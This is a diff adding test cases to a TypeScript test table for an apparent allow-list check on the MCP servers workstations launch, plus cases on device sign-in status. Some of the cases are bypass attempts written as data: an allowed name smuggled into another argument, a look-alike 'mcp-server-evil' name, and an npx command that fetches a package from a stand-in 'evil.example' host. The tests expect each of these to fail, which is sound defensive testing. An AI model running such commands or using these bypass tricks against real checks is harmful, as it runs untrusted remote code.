@@ -87,6 +87,36 @@ const SITUATIONS: readonly (readonly [situation: string, make: () => void, said:
     { ALLOWED_WORKSTATION_SERVERS: [hashOf(SERVER)] },
   ],
   ['another one is allow-listed', () => connects('a', SERVER), FAILS, { ALLOWED_WORKSTATION_SERVERS: ['server-post'] }],
+  [
+    'the name of an allowed one in another argument',
+    () => connects('a', `${SERVER} --instead-of @modelcontextprotocol/server-memory`),
+    `fail: reaches-shared-host ${hashOf(`${SERVER} --instead-of @modelcontextprotocol/server-memory`)}`,
+    { ALLOWED_WORKSTATION_SERVERS: ['@modelcontextprotocol/server-memory'] },
+  ],
+  [
+    'its name begins like that of an allowed one',
+    () => connects('a', 'npx mcp-server-evil'),
+    `fail: reaches-shared-host ${hashOf('npx mcp-server-evil')}`,
+    { ALLOWED_WORKSTATION_SERVERS: ['mcp-server'] },
+  ],
+  [
+    'allow-listed, by a path, in quotes, with a version, and with the gateway’s address',
+    () => {
+      connects(
+        'a',
+        '"C:\\Program Files\\node.exe" "C:\\npx\\node_modules\\MCP-Remote\\dist\\proxy.js" https://apim-mcp.azure-api.net/crm/mcp',
+      );
+      connects('a', 'npx -y mcp-remote@0.1.29 mcp-remote https://apim-mcp.azure-api.net/crm/mcp');
+    },
+    'pass',
+    { ALLOWED_WORKSTATION_SERVERS: ['mcp-remote'] },
+  ],
+  [
+    'started from an address, beside an allowed one',
+    () => connects('a', 'npx https://evil.example/mcp-server.tgz mcp-remote'),
+    `fail: reaches-shared-host ${hashOf('npx https://evil.example/mcp-server.tgz mcp-remote')}`,
+    { ALLOWED_WORKSTATION_SERVERS: ['mcp-remote'] },
+  ],
   ['a server without a connection: no network proof', () => runs('a', SERVER), 'unknown: no-data'],
   [
     'to somewhere else',
@@ -118,6 +148,23 @@ const SITUATIONS: readonly (readonly [situation: string, make: () => void, said:
     'phones do not count',
     () => {
       for (const os of ['iOS', 'AndroidForWork', 'IPad']) device(os, { os, reported: undefined });
+    },
+    'pass',
+  ],
+  [
+    'a device of which Entra knows no sign-in, and Defender nothing',
+    () => {
+      device('new', { reported: undefined });
+      entra.devices.patch(seededGuid('object new'), { approximateLastSignInDateTime: null });
+    },
+    'unknown: partial',
+  ],
+  [
+    'one that is disabled, or has not signed in for months',
+    () => {
+      for (const name of ['off', 'old']) device(name, { reported: undefined });
+      entra.devices.patch(seededGuid('object off'), { accountEnabled: false });
+      entra.devices.patch(seededGuid('object old'), { approximateLastSignInDateTime: ago(90).toISOString() });
     },
     'pass',
   ],
